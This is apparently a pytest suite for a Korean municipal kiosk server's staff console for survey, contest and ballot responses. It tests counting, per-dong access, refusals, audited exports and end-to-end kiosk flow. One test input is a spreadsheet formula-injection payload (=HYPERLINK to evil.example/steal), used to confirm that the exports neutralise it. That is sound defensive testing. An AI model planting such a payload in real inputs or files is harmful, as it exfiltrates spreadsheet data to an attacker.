"""참여 내용 (server.responses, server.console.responses) as staff meet it.

On SQLite and on PostgreSQL, through the real server process: kiosks in 회현동 and 명동 (and one
waiting for approval) send survey answers, a practice answer, contest entries and votes, agrees
and ballots; the pages count only what was counted and label practice, a dong officer sees only
their own dong's, a 보기 account is refused, the exports hold the table with every text kept as
text (the formula attack), each export is in the audit log, and nothing of a resident's identity
shows. Then end to end: a survey answered by taps at a real kiosk window with its real sync
worker is in the table in a real browser, and in the XLSX and CSV downloaded with that session.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import requests

from tests.console.conftest import (
    ADMIN,
    DONG,
    VIEWER,
    add_account,
    page_errors,
    signed_in_session,
)
from tests.console.test_calls import MYEONG
from tests.server.civic import Kiosk, Resident, agree, ballot, publish_pack
from tests.server.conftest import require_postgres
from tests.server.process import ServerProcess, postgres_database, start_server

DIGITAL, WALK, CONTEST = "2026-senior-digital", "2026-walkable-junggu", "2026-alley-photo"
ATTACK = '=HYPERLINK("http://evil.example/steal?d="&A1,"클릭하세요")'
PLUS = "+1 병원 예약 앱 쓰는 법"
MYEONG_TEXT = "명동에서 쓴 답"
LEARN = "코레일 앱으로 표 사기"
RESPONSES = "/staff/responses"


def _beat(server: ServerProcess, kiosk: Kiosk, dong: str) -> None:
    r = requests.post(
        f"{server.api}/devices/heartbeat",
        json={
            "app_version": "0.9.1",
            "content_version": None,
            "queue_depth": 0,
            "mode": "kiosk",
            "uptime_s": 60.0,
            "dong": dong,
        },
        headers=kiosk.device.headers,
        timeout=10,
    )
    assert r.status_code == 200, r.text


def answers(**given: Any) -> dict[str, Any]:
    return {"survey_id": DIGITAL, "answers": given}


def _project(manifest: dict[str, Any], dong: str) -> str:
    found = next(b for b in manifest["budget"]["ballots"] if b["dong"] == dong)
    return str(next(p["id"] for p in found["projects"] if p.get("reviewed", True)))


@dataclass
class Sent:
    server: ServerProcess
    here: Kiosk
    there: Kiosk
    resident: Resident
    seal_hashes: list[str]


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def sent(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Sent]:
    """A server (SQLite, then PostgreSQL) with staff, the demo pack and what kiosks sent."""
    data_dir = tmp_path_factory.mktemp(f"responses-{request.param}")
    if request.param == "sqlite":
        server = start_server(data_dir)
        try:
            yield _send(server, data_dir)
        finally:
            server.stop()
        return
    require_postgres()
    with postgres_database() as url:
        server = start_server(data_dir, url)
        try:
            yield _send(server, data_dir)
        finally:
            server.stop()


def _send(server: ServerProcess, data_dir: Path) -> Sent:
    for account in (ADMIN, VIEWER, DONG, MYEONG):
        if account is MYEONG:
            secret = data_dir / "pw-myeong"
            secret.write_text(MYEONG.password + "\n", encoding="utf-8")
            server.cli(
                "staff", "add", MYEONG.name, "--role", "dong", "--dong", "myeong",
                "--password-file", str(secret),
            )  # fmt: skip
        else:
            add_account(server, account, data_dir)
    manifest = publish_pack(server, data_dir)
    here = Kiosk(server, "회현동 주민센터 1층 키오스크")
    there = Kiosk(server, "명동 주민센터 로비 키오스크")
    waiting = Kiosk(server, "회현동 새 키오스크", approve=False)
    for kiosk, dong in ((here, "hoehyeon"), (there, "myeong"), (waiting, "hoehyeon")):
        _beat(server, kiosk, dong)
    resident, neighbour = Resident(), Resident()
    results = here.send(
        here.envelope(
            "survey_response",
            answers(
                age="70s",
                smartphone=True,
                uses=["kakao", "maps"],
                class_satisfaction=4,
                want_to_learn=LEARN,
            ),
        ),
        here.envelope(
            "survey_response",
            answers(
                age="80plus",
                smartphone=False,
                why_not="eyesight",
                class_satisfaction=5,
                wishes=ATTACK,
            ),
        ),
        here.envelope(
            "survey_response",
            answers(
                age="70s",
                smartphone=True,
                uses=["kakao"],
                class_satisfaction=3,
                want_to_learn=PLUS,
            ),
            resident,
        ),  # fmt: skip
        here.envelope(
            "survey_response",
            answers(age="60s", smartphone=True, uses=["news"], class_satisfaction=1),
            practice=True,
        ),
        here.envelope(
            "contest_entry", {"contest_id": CONTEST, "title": "우리 골목 계단", "text": "봄이면 꽃"}
        ),
        here.envelope("contest_vote", {"contest_id": CONTEST, "entry_ids": ["sunset", "market"]}),
        here.envelope(
            "contest_vote", {"contest_id": CONTEST, "entry_ids": ["ginkgo"]}, practice=True
        ),
        here.envelope("proposal_agree", agree("handrail-hoehyeon"), resident),
        here.envelope("ballot", ballot("hoehyeon", _project(manifest, "hoehyeon")), resident),
    )
    results += there.send(
        there.envelope(
            "survey_response",
            answers(
                age="under60",
                smartphone=True,
                uses=["banking"],
                class_satisfaction=2,
                want_to_learn=MYEONG_TEXT,
            ),
        ),  # fmt: skip
        there.envelope(
            "survey_response",
            answers(age="under60", smartphone=False, why_not="cost", class_satisfaction=2),
        ),
        there.envelope(
            "contest_entry", {"contest_id": CONTEST, "title": "명동 이야기", "text": "골목 노래"}
        ),
        there.envelope("contest_vote", {"contest_id": CONTEST, "entry_ids": ["sunset"]}),
        there.envelope("proposal_agree", agree("busking-myeong"), neighbour),
        there.envelope("ballot", ballot("myeong", _project(manifest, "myeong")), neighbour),
    )
    results += waiting.send(
        waiting.envelope("survey_response", answers(age="70s", smartphone=False, why_not="hard"))
    )
    assert all(r["status"] == "accepted" for r in results), results
    with server.database() as db:
        from sqlalchemy import select

        from server.db.models import Submission

        with db.read() as session:
            bodies = session.scalars(select(Submission.body)).all()
    hashes = [
        json.loads(b)["sealed_identity_sha256"]
        for b in bodies
        if json.loads(b).get("sealed_identity_sha256")
    ]
    assert hashes
    return Sent(server, here, there, resident, hashes)


def _get(sent: Sent, account: Any, path: str) -> requests.Response:
    r = signed_in_session(sent.server, account).get(sent.server.url + path, timeout=30)
    return r


def _never_identity(sent: Sent, content: bytes | str) -> None:
    data = content.encode("utf-8") if isinstance(content, str) else content
    for form in sent.resident.clear_forms:
        assert form not in data
    for digest in sent.seal_hashes:
        assert digest.encode() not in data and digest[:16].encode() not in data
    assert b"sealed_identity" not in data


def _xlsx_rows(content: bytes) -> tuple[list[Any], list[list[Any]], Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book.active
    rows = [[c for c in row] for row in sheet.iter_rows()]
    header = [c.value for c in rows[0]]
    return header, rows[1:], sheet


# -- counting ---------------------------------------------------------------------------------


def test_the_list_counts_only_counted_responses_and_labels_practice(sent: Sent) -> None:
    page = _get(sent, ADMIN, RESPONSES)
    assert page.status_code == 200
    row = page.text.split(f'id="survey-{DIGITAL}"')[1].split("</tr>")[0]
    # 3 from 회현동 and 2 from 명동; the practice one apart, the unapproved device's held.
    cells = [c.split("</td>")[0] for c in row.split("<td")[1:]]
    assert "<strong>5</strong>건" in cells[3]
    assert "연습" in cells[4] and "1건" in cells[4]
    assert "1건" in cells[5]
    assert "어르신 디지털 생활 실태 조사" in row
    assert "정책퀴즈: 온통중구 알아보기" in page.text
    _never_identity(sent, page.text)


def test_the_survey_page_shows_figures_and_the_table(sent: Sent) -> None:
    page = _get(sent, ADMIN, f"{RESPONSES}/survey?id={DIGITAL}")
    text = page.text
    assert page.status_code == 200
    assert "연습 응답 1건, 집계에서 제외" in text
    # Figures: labels from the pack, counted answers only (the practice "60대" is not there).
    age = text.split('id="figure-age"')[1].split("</section>")[0]
    assert "<svg" in age and "70대: 2명 (40%)" in age and "60대: 0명 (0%)" in age
    scale = text.split('id="figure-class_satisfaction"')[1].split("</section>")[0]
    assert "2 불만족: 2명" in scale and "1 매우 불만족: 0명" in scale
    yes_no = text.split('id="figure-smartphone"')[1].split("</section>")[0]
    assert "예: 3명" in yes_no and "아니요: 2명" in yes_no
    uses = text.split('id="figure-uses"')[1].split("</section>")[0]
    assert "카카오톡 대화: 2명" in uses and "뉴스·날씨: 0명" in uses
    learn = text.split('id="figure-want_to_learn"')[1].split("</section>")[0]
    assert LEARN in learn and MYEONG_TEXT in learn
    # The table: one row per counted response, labels not ids, the device's dong and name.
    table = text.split('class="answers"')[1].split("</table>")[0]
    assert table.count("<tr>") == 6  # the header and five responses
    assert "나이대를 골라 주세요." in table and "80세 이상" in table and "4 (만족)" in table
    assert "카카오톡 대화, 길 찾기·버스 도착 정보" in table
    assert "회현동" in table and "명동" in table and "회현동 주민센터 1층 키오스크" in table
    assert "=HYPERLINK(&#34;http://evil.example" in table or "=HYPERLINK(&quot;" in table
    assert "80plus" not in table and ">70s<" not in table
    _never_identity(sent, text)


def test_the_table_is_paged(sent: Sent) -> None:
    extra = Kiosk(sent.server, "을지로동 키오스크")
    _beat(sent.server, extra, "euljiro")
    items = [
        extra.envelope(
            "survey_response",
            {"survey_id": WALK, "answers": {"how_often": "daily", "walk_satisfaction": 3}},
        )
        for _ in range(205)
    ]
    for start in range(0, len(items), 200):
        assert all(r["status"] == "accepted" for r in extra.send(*items[start : start + 200]))

    first = _get(sent, ADMIN, f"{RESPONSES}/survey?id={WALK}").text
    last = _get(sent, ADMIN, f"{RESPONSES}/survey?id={WALK}&page=3").text
    beyond = _get(sent, ADMIN, f"{RESPONSES}/survey?id={WALK}&page=99").text

    def rows(html: str) -> int:
        return html.split('class="answers"')[1].split("</table>")[0].count("<tr>") - 1

    assert (rows(first), rows(last), rows(beyond)) == (100, 5, 5)
    assert "205건 가운데 1~100번째" in first and "205건 가운데 201~205번째" in last
    assert "거의 날마다: 205명 (100%)" in first


def test_a_survey_the_pack_no_longer_has_is_listed_by_its_id(sent: Sent) -> None:
    old = "2025-old-survey"
    result = sent.here.send_one(
        "survey_response", {"survey_id": old, "answers": {"liked": "yes-please", "score": 4}}
    )
    assert result["status"] == "accepted", result

    listed = _get(sent, ADMIN, RESPONSES).text
    page = _get(sent, ADMIN, f"{RESPONSES}/survey?id={old}").text

    row = listed.split(f'id="survey-{old}"')[1].split("</tr>")[0]
    assert "최신 콘텐츠에 없는 설문" in row and "<strong>1</strong>건" in row
    assert "문항 id를 씁니다" in page
    assert "yes-please: 1명 (100%)" in page and "4: 1명 (100%)" in page
    header = page.split('class="answers"')[1].split("</thead>")[0]
    assert ">liked<" in header and ">score<" in header


# -- who sees what ------------------------------------------------------------------------------


def test_a_dong_officer_sees_only_their_own_dongs_responses(sent: Sent) -> None:
    mine = _get(sent, DONG, f"{RESPONSES}/survey?id={DIGITAL}").text
    listed = _get(sent, DONG, RESPONSES).text
    contest = _get(sent, DONG, f"{RESPONSES}/contest?id={CONTEST}").text
    counted = _get(sent, DONG, f"{RESPONSES}/counts").text
    export = _get(sent, DONG, f"{RESPONSES}/survey.csv?id={DIGITAL}").text

    table = mine.split('class="answers"')[1].split("</table>")[0]
    assert table.count("<tr>") == 4 and "명동 주민센터" not in table
    assert MYEONG_TEXT not in mine and LEARN in mine
    assert "회현동 기기에서 보낸 참여만 보입니다" in mine
    assert "<strong>3</strong>건" in listed.split(f'id="survey-{DIGITAL}"')[1].split("</tr>")[0]
    assert "우리 골목 계단" in contest and "명동 이야기" not in contest
    assert "handrail-hoehyeon" in counted and "busking-myeong" not in counted
    assert "ballot-2027-pb-hoehyeon" in counted and "ballot-2027-pb-myeong" not in counted
    assert len(list(csv.reader(io.StringIO(export.lstrip("\ufeff"))))) == 4
    assert MYEONG_TEXT not in export
    # And the other way round: 명동's officer sees none of 회현동's.
    theirs = _get(sent, MYEONG, f"{RESPONSES}/survey?id={DIGITAL}").text
    assert MYEONG_TEXT in theirs and LEARN not in theirs


def test_a_viewer_is_refused_every_page_and_export(sent: Sent) -> None:
    http = signed_in_session(sent.server, VIEWER)
    for path in (
        RESPONSES,
        f"{RESPONSES}/survey?id={DIGITAL}",
        f"{RESPONSES}/survey.csv?id={DIGITAL}",
        f"{RESPONSES}/survey.xlsx?id={DIGITAL}",
        f"{RESPONSES}/contests",
        f"{RESPONSES}/contest?id={CONTEST}",
        f"{RESPONSES}/counts",
    ):
        r = http.get(sent.server.url + path, timeout=10)
        assert r.status_code == 403, path
        assert LEARN not in r.text
    assert "참여 내용" not in http.get(f"{sent.server.url}/staff/", timeout=10).text


def test_an_unknown_survey_is_a_plain_404(sent: Sent) -> None:
    r = _get(sent, ADMIN, f"{RESPONSES}/survey?id=no-such-survey")
    assert r.status_code == 404 and "그런 설문이 없습니다" in r.text
    assert _get(sent, ADMIN, f"{RESPONSES}/survey.xlsx").status_code == 404


# -- exports -----------------------------------------------------------------------------------


def test_the_exports_keep_a_formula_as_text_and_are_audited(sent: Sent) -> None:
    http = signed_in_session(sent.server, ADMIN)
    xlsx = http.get(f"{sent.server.url}{RESPONSES}/survey.xlsx?id={DIGITAL}", timeout=30)
    text_csv = http.get(f"{sent.server.url}{RESPONSES}/survey.csv?id={DIGITAL}", timeout=30)

    assert xlsx.status_code == 200 and "attachment" in xlsx.headers["content-disposition"]
    header, rows, _sheet = _xlsx_rows(xlsx.content)
    assert header[:4] == ["받은 시각 (한국 시간)", "동", "기기", "나이대를 골라 주세요."]
    assert len(rows) == 5
    attacked = [c for row in rows for c in row if c.value == ATTACK]
    plus = [c for row in rows for c in row if c.value == PLUS]
    assert len(attacked) == 1 and len(plus) == 1
    assert attacked[0].data_type == "s" and plus[0].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ages = [row[3].value for row in rows]
    assert sorted(ages) == ["60세 미만", "60세 미만", "70대", "70대", "80세 이상"]

    assert text_csv.content.startswith("\ufeff".encode())
    table = list(csv.reader(io.StringIO(text_csv.content.decode("utf-8-sig"))))
    assert table[0][:3] == ["받은 시각 (한국 시간)", "동", "기기"] and len(table) == 6
    cells = [c for row in table for c in row]
    assert "'" + ATTACK in cells and "'" + PLUS in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    for content in (xlsx.content, text_csv.content):
        _never_identity(sent, content)

    audit_csv = http.get(f"{sent.server.url}/staff/audit.csv", timeout=10).text
    exports = [
        r for r in csv.reader(io.StringIO(audit_csv.lstrip("\ufeff"))) if r[3] == "responses.export"
    ]
    mine = [r for r in exports if r[2] == ADMIN.name]
    assert any('"format": "xlsx"' in r[6] and '"count": 5' in r[6] for r in mine)
    assert any('"format": "csv"' in r[6] and f'"survey_id": "{DIGITAL}"' in r[6] for r in mine)
    assert all(r[4] == f"survey:{DIGITAL}" for r in mine)
    assert ATTACK not in audit_csv
    page = http.get(f"{sent.server.url}/staff/audit", timeout=10).text
    assert "설문 응답 내려받기" in page and "엑셀 (XLSX)" in page


# -- contests, agrees and ballots -------------------------------------------------------------


def test_contest_entries_and_votes_per_entry(sent: Sent) -> None:
    listed = _get(sent, ADMIN, f"{RESPONSES}/contests").text
    page = _get(sent, ADMIN, f"{RESPONSES}/contest?id={CONTEST}").text

    row = listed.split(f'id="contest-{CONTEST}"')[1].split("</tr>")[0]
    assert "<strong>2</strong>건" in row and "<strong>2</strong>명" in row and "연습" in row
    votes = page.split('id="contest-votes"')[1].split("</section>")[0]
    assert "남산 아래 해 질 녘: 2표" in votes and "중앙시장 칼국수 골목: 1표" in votes
    assert "정동길 은행나무: 0표" in votes  # the practice vote is not counted
    entries = page.split('class="entries"')[1].split("</table>")[0]
    assert "우리 골목 계단" in entries and "봄이면 꽃" in entries and "명동 이야기" in entries
    assert "회현동 주민센터 1층 키오스크" in entries and "명동" in entries
    _never_identity(sent, page)


def test_agrees_and_ballots_are_counts_only(sent: Sent) -> None:
    page = _get(sent, ADMIN, f"{RESPONSES}/counts").text
    handrail = page.split('id="agree-handrail-hoehyeon"')[1].split("</tr>")[0]
    assert '<td class="n"><strong>1</strong></td>' in handrail
    hoehyeon = page.split('id="ballot-2027-pb-hoehyeon"')[1].split("</section>")[0]
    assert "투표한 주민 1명" in hoehyeon
    _never_identity(sent, page)


# -- end to end: a real kiosk, a real browser -------------------------------------------------

KIOSK_NAME = "회현동 주민센터 1층 키오스크"
TYPED = "기차표"
ON_PAGE_WITHIN_S = 20.0


@pytest.fixture
def live(tmp_path: Path) -> Iterator[ServerProcess]:
    """A server on SQLite with an admin and the demo pack published (every survey open)."""
    running = start_server(tmp_path / "server")
    add_account(running, ADMIN, tmp_path)
    publish_pack(running, tmp_path / "packs")
    yield running
    running.stop()


@pytest.fixture
def kiosk(qtbot: Any, live: ServerProcess, tmp_path: Path) -> Iterator[Any]:
    """An enrolled, approved kiosk window in 회현동 with the app's real sync worker, showing what
    its server published."""
    from tests.console.test_staff_call_e2e import TUNING
    from tests.helpers.live_kiosk import live_kiosk

    with live_kiosk(
        qtbot, live, tmp_path / "kiosk", name=KIOSK_NAME, dong="hoehyeon", tuning=TUNING
    ) as window:
        yield window


def _answer_the_digital_survey(qtbot: Any, window: Any) -> None:
    """A resident's taps, from the home screen to the thanks screen."""
    from tests.helpers.resident import find, on, send_for_points, tap_name, type_text

    tap_name(qtbot, window, "tile_surveys")
    tap_name(qtbot, window, f"survey_{DIGITAL}")
    tap_name(qtbot, window, "startButton")
    for choice in ("70s", True, "kakao", 4):
        tap_name(qtbot, window, f"choice_{choice}")
        if choice == "kakao":
            tap_name(qtbot, window, "choice_maps")
        tap_name(qtbot, window, "flowNext")
    assert window.navigator.current.params["at"].key == "want_to_learn"
    type_text(qtbot, window.current_screen.keyboard, TYPED)
    tap_name(qtbot, window, "flowNext")
    tap_name(qtbot, window, "flowNext")  # 바라는 점: optional, skipped
    assert on(window) == "survey_review"
    send_for_points(qtbot, window)  # 포인트 받기 and 본인 확인
    assert on(window) == "thanks"
    assert find(window, "thanksPoints").isVisible()


def test_a_survey_answered_at_a_kiosk_is_in_the_table_and_the_exports(
    qtbot: Any, live: ServerProcess, kiosk: Any, browser: Any
) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    from tests.console.test_browser import sign_in, text_of

    survey_path = f"{RESPONSES}/survey?id={DIGITAL}"
    sign_in(browser, live, ADMIN, survey_path)
    assert "집계된 응답이 없습니다" in text_of(browser)

    _answer_the_digital_survey(qtbot, kiosk)

    def arrived(driver: Any) -> bool:
        driver.get(live.url + survey_path)
        rows = driver.find_elements(By.CSS_SELECTOR, "table.answers tbody tr")
        return len(rows) == 1 and TYPED in rows[0].text

    WebDriverWait(browser, ON_PAGE_WITHIN_S, poll_frequency=0.5).until(arrived)
    row = browser.find_element(By.CSS_SELECTOR, "table.answers tbody tr").text
    assert KIOSK_NAME in row and "70대" in row and "카카오톡 대화, 길 찾기·버스 도착 정보" in row
    assert "4 (만족)" in row and "예" in row
    figure = browser.find_element(By.ID, "figure-age")
    assert figure.find_element(By.TAG_NAME, "svg").is_displayed()
    assert "집계 응답 1건" in text_of(browser)
    assert page_errors(browser) == []

    # The exports, downloaded with the browser's own signed-in session.
    http = requests.Session()
    for cookie in browser.get_cookies():
        http.cookies.set(cookie["name"], cookie["value"], path=cookie.get("path", "/"))
    xlsx = http.get(f"{live.url}{RESPONSES}/survey.xlsx?id={DIGITAL}", timeout=30)
    assert xlsx.status_code == 200
    header, rows, _sheet = _xlsx_rows(xlsx.content)
    assert header[:4] == ["받은 시각 (한국 시간)", "동", "기기", "나이대를 골라 주세요."]
    [only] = [[c.value for c in r] for r in rows]
    assert only[1:4] == ["회현동", KIOSK_NAME, "70대"]
    assert TYPED in only and "카카오톡 대화, 길 찾기·버스 도착 정보" in only and 4 in only
    text_csv = http.get(f"{live.url}{RESPONSES}/survey.csv?id={DIGITAL}", timeout=30)
    table = list(csv.reader(io.StringIO(text_csv.content.decode("utf-8-sig"))))
    assert len(table) == 2 and TYPED in table[1] and "70대" in table[1]

    # Both downloads are in the audit log, as the browser shows it.
    browser.get(f"{live.url}/staff/audit")
    exports = [r.text for r in browser.find_elements(By.CSS_SELECTOR, "tr.action-responses-export")]
    assert len(exports) == 2
    assert all(ADMIN.name in e and "설문 응답 내려받기" in e and DIGITAL in e for e in exports)
    assert any("엑셀 (XLSX)" in e for e in exports) and any("CSV" in e for e in exports)
